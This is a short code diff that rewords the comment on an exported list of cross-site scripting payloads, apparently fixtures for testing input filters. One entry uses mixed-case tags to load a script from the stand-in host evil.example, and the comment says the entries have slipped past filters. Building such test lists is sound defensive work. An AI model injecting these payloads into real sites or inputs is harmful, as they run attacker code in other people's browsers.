@@ -1,4 +1,4 @@
-/** Texts that would run as code where a page took them for its own: one or more of each kind that filters have missed. */
+/** Script injection payloads, at least one of each kind that has bypassed filters. */
 export const attacks = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></ScRiPt>',
